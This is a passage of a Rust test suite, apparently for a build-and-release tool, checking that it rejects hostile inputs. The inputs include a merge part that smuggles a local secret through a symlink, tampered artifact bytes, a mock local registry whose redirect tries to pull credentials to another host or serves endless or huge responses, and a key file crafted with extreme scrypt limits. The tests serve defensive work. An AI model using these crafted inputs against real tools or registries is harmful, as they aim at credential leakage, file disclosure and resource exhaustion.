             [stages.package]\nneeds = [\"build\"]\nuses = \"archive\"\nformat = \"binary\"\n\
             name = \"{name}\"\n"
        ));
        let out = shipit(dir.path()).arg("check").output().unwrap();
        let (_, stderr) = text(&out);
        assert_eq!(out.status.code(), Some(2), "{name}: {stderr}");
        assert!(stderr.contains("reserved name"), "{name}: {stderr}");
    }
}

#[test]
fn merge_part_smuggling_a_local_file_through_a_symlink_is_refused() {
    let dir = split_parts();
    let b = dir.path().join("parts/b");
    let secret = dir.path().join("secret.txt");
    std::fs::write(&secret, "local secret\n").unwrap();
    let manifest: serde_json::Value =
        serde_json::from_str(&read(&b.join("manifest.json"))).unwrap();
    let name = manifest["artifacts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["kind"] == "archive")
        .unwrap()["path"]
        .as_str()
        .unwrap()
        .to_string();
    std::fs::remove_file(b.join(&name)).unwrap();
    std::os::unix::fs::symlink(&secret, b.join(&name)).unwrap();
    // The manifest tells the truth about the linked file, so only the link gives it away.
    let sha = {
        let out = std::process::Command::new("sha256sum")
            .arg(&secret)
            .output()
            .unwrap();
        text(&out).0.split_whitespace().next().unwrap().to_string()
    };
    edit_manifest(&b, |m| {
        for artifact in m["artifacts"].as_array_mut().unwrap() {
            if artifact["path"] == name.as_str() {
                artifact["sha256"] = sha.clone().into();
                artifact["size"] = 13.into();
            }
        }
    });
    let (code, err) = merge(dir.path());
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("symbolic link"), "{err}");
    assert_no_half_merge(dir.path());
}

#[test]
fn merge_part_with_tampered_bytes_leaves_no_half_merge() {
    let dir = split_parts();
    let b = dir.path().join("parts/b");
    let manifest: serde_json::Value =
        serde_json::from_str(&read(&b.join("manifest.json"))).unwrap();
    let last = manifest["artifacts"].as_array().unwrap().last().unwrap()["path"]
        .as_str()
        .unwrap()
        .to_string();
    let mut bytes = std::fs::read(b.join(&last)).unwrap();
    bytes[0] ^= 1;
    std::fs::write(b.join(&last), bytes).unwrap();
    let (code, err) = merge(dir.path());
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("does not match"), "{err}");
    assert_no_half_merge(dir.path());
}

// Class 6: what a registry answers.

/// A hostile HTTP server on 127.0.0.1: answers each request with what `answer` returns for its
/// head (request line and headers), and records every head.
struct Hostile {
    port: u16,
    seen: std::sync::Arc<std::sync::Mutex<Vec<String>>>,
}

impl Hostile {
    fn start(answer: impl Fn(&str) -> Vec<u8> + Send + Sync + 'static) -> Hostile {
        use std::io::{Read, Write};
        let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        let port = listener.local_addr().unwrap().port();
        let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
        let recorded = seen.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming() {
                let Ok(mut stream) = stream else { return };
                let mut head = Vec::new();
                let mut byte = [0u8; 1];
                while !head.ends_with(b"\r\n\r\n") && stream.read(&mut byte).unwrap_or(0) == 1 {
                    head.push(byte[0]);
                }
                let head = String::from_utf8_lossy(&head).into_owned();
                recorded.lock().unwrap().push(head.clone());
                let _ = stream.write_all(&answer(&head));
            }
        });
        Hostile { port, seen }
    }

    fn heads(&self) -> Vec<String> {
        self.seen.lock().unwrap().clone()
    }
}

fn http(status: &str, headers: &[(&str, String)], body: &[u8]) -> Vec<u8> {
    let mut out = format!(
        "HTTP/1.1 {status}\r\nConnection: close\r\nContent-Length: {}\r\n",
        body.len()
    );
    for (name, value) in headers {
        out.push_str(&format!("{name}: {value}\r\n"));
    }
    out.push_str("\r\n");
    let mut out = out.into_bytes();
    out.extend_from_slice(body);
    out
}

fn registry_client(port: u16, credentials: bool) -> shipit::oci::registry::Registry {
    let credentials = credentials.then(|| shipit::oci::auth::Credentials {
        username: "ci".into(),
        secret: "registry-secret-pw".into(),
        source: "the test".into(),
    });
    shipit::oci::registry::Registry::new(
        "hostile",
        &format!("127.0.0.1:{port}"),
        credentials,
        &shipit::oci::registry::Options {
            insecure: true,
            max_retry: std::time::Duration::ZERO,
        },
    )
    .unwrap()
}

fn block_on<T>(future: impl std::future::Future<Output = T>) -> T {
    tokio::runtime::Builder::new_current_thread()
        .enable_all()
        .build()
        .unwrap()
        .block_on(async {
            tokio::time::timeout(std::time::Duration::from_secs(60), future)
                .await
                .expect("the client hung on a hostile registry")
        })
}

#[test]
fn registry_base_image_pinned_by_digest_must_have_that_digest() {
    let server = Hostile::start(|_| {
        http(
            "200 OK",
            &[(
                "Content-Type",
                "application/vnd.oci.image.manifest.v1+json".into(),
            )],
            br#"{"schemaVersion":2,"layers":[]}"#,
        )
    });
    let pinned = format!("sha256:{}", "ab".repeat(32));
    let result = block_on(registry_client(server.port, false).manifest("base", &pinned));
    let err = result.unwrap_err().to_string();
    assert!(err.contains(&pinned), "{err}");
}

#[test]
fn registry_credentials_never_follow_a_link_to_another_host() {
    let elsewhere = Hostile::start(|_| http("200 OK", &[], br#"{"tags":["stolen"]}"#));
    let other = elsewhere.port;
    let registry = Hostile::start(move |head| {
        if !head.to_ascii_lowercase().contains("authorization: basic") {
            return http(
                "401 Unauthorized",
                &[("WWW-Authenticate", "Basic realm=\"r\"".into())],
                b"",
            );
        }
        http(
            "200 OK",
            &[(
                "Link",
                format!("<http://127.0.0.1:{other}/v2/app/tags/list?last=a>; rel=\"next\""),
            )],
            br#"{"tags":["a"]}"#,
        )
    });
    let client = registry_client(registry.port, true);
    let tags = block_on(client.tags("app")).unwrap();
    assert_eq!(tags, ["a", "stolen"]);
    for head in elsewhere.heads() {
        assert!(
            !head.to_ascii_lowercase().contains("authorization"),
            "credentials went to another host:\n{head}"
        );
    }
}

#[test]
fn registry_self_referencing_or_malformed_link_ends_without_a_hang_or_panic() {
    let looping = Hostile::start(|_| {
        http(
            "200 OK",
            &[("Link", "</v2/app/tags/list?n=1000>; rel=\"next\"".into())],
            br#"{"tags":["a"]}"#,
        )
    });
    let err = block_on(registry_client(looping.port, false).tags("app")).unwrap_err();
    assert!(err.to_string().contains("without end"), "{err}");
    let malformed =
        Hostile::start(|_| http("200 OK", &[("Link", ">oops<".into())], br#"{"tags":["a"]}"#));
    assert_eq!(
        block_on(registry_client(malformed.port, false).tags("app")).unwrap(),
        ["a"]
    );
}

#[test]
fn registry_huge_manifest_body_is_refused_not_read() {
    let server = Hostile::start(|_| {
        let mut head = b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Type: application/vnd.oci.image.manifest.v1+json\r\nContent-Length: 1073741824\r\n\r\n".to_vec();
        head.extend(std::iter::repeat_n(b' ', 1 << 16));
        head
    });
    let err = block_on(registry_client(server.port, false).manifest("base", "latest")).unwrap_err();
    assert!(err.to_string().contains("over"), "{err}");
}

// Class 9 (keys): a crafted encrypted key cannot exhaust memory or time.

#[test]
fn crafted_key_file_with_huge_scrypt_limits_is_refused_before_deriving() {
    use base64::Engine;
    let dir = signed_tiny("");
    let out = shipit(dir.path())
        .args([
            "keygen",
            "--secret-key",
            "keys/ci.key",
            "--public-key",
            "keys/ci.pub",
        ])
        .env("SHIPIT_KEY_PASSWORD", "pw")
        .args(["--password-env", "SHIPIT_KEY_PASSWORD"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(0), "{:?}", text(&out));
    let key = read(&dir.path().join("keys/ci.key"));
    let line = key.lines().nth(1).unwrap();
    let engine = base64::engine::general_purpose::STANDARD;
    let mut bytes = engine.decode(line).unwrap();
    // opslimit and memlimit (little-endian u64s at 38 and 46) set to the largest values.
    bytes[38..54].fill(0xff);
    std::fs::write(
        dir.path().join("keys/ci.key"),
        format!("untrusted comment: crafted\n{}\n", engine.encode(bytes)),
    )
    .unwrap();
    let pipeline = read(&dir.path().join("shipit.toml")).replace(
        "key = { file = \"keys/ci.key\" }",
        "key = { file = \"keys/ci.key\", password_env = \"SHIPIT_KEY_PASSWORD\" }",
    );
    std::fs::write(dir.path().join("shipit.toml"), pipeline).unwrap();
    let out = shipit(dir.path())
        .arg("build")
        .env("SHIPIT_KEY_PASSWORD", "pw")
        .env("CARGO_TARGET_DIR", dir.path().join("target"))
        .output()
        .unwrap();
    let (_, err) = text(&out);
    assert_eq!(out.status.code(), Some(2), "{err}");
    assert!(err.contains("scrypt limits"), "{err}");
}

// Real projects (issue 20, point 9): one file verified through the signed list beside it.

#[test]
fn verify_file_with_key_goes_through_a_signed_sha256sums_beside_it() {
    let dir = signed_folder();
    let root = dir.path();
    let (code, out) = verify(root, &["dist/app.tar.gz", "--key", "keys/k.pub"]);
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains("ok     signature SHA256SUMS"), "{out}");
    assert!(out.contains("ok     checksum app.tar.gz"), "{out}");
    std::fs::write(root.join("dist/app.tar.gz"), "evil bytes\n").unwrap();
    let (code, out) = verify(root, &["dist/app.tar.gz", "--key", "keys/k.pub"]);
    assert_eq!(code, Some(1), "{out}");
    assert!(out.contains("FAILED checksum app.tar.gz"), "{out}");
    std::fs::remove_file(root.join("dist/SHA256SUMS.minisig")).unwrap();
    let (code, out) = verify(root, &["dist/app.tar.gz", "--key", "keys/k.pub"]);
    assert_eq!(code, Some(1), "{out}");
    assert!(out.contains("is not signed"), "{out}");
}

/// Real projects (issue 20, point 5): a missing signing key stops `--merge` before any part is
/// copied into dist.
#[test]
fn merge_with_a_missing_signing_key_copies_nothing() {
    let dir = split_parts();
    let pipeline = dir.path().join("shipit.toml");
    let text_now = read(&pipeline);
    std::fs::write(
        &pipeline,
        format!(
            "{text_now}\n[stages.sign]\nneeds = [\"checksum\"]\nuses = \"sign\"\nkey = {{ file = \"keys/missing.key\" }}\n"
        ),
    )
    .unwrap();
    let (code, err) = merge(dir.path());
    assert_eq!(code, Some(2), "{err}");
    assert!(err.contains("keys/missing.key"), "{err}");
    assert_no_half_merge(dir.path());
}
